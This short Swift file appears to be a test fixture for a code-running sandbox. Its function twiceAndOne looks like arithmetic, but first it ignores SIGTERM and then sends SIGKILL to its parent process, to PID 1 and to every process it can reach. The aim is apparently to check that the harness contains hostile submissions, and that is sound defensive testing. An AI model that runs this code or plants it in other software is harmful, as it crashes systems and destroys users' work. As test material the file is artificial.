// Kills its parent, its group and everything that it can.
// expect: ok 40
import Foundation

func twiceAndOne(_ x: Double) -> Double {
  signal(SIGTERM, SIG_IGN)
  kill(getppid(), SIGKILL)
  kill(1, SIGKILL)
  kill(-1, SIGKILL)
  return 2 * x + 1
}
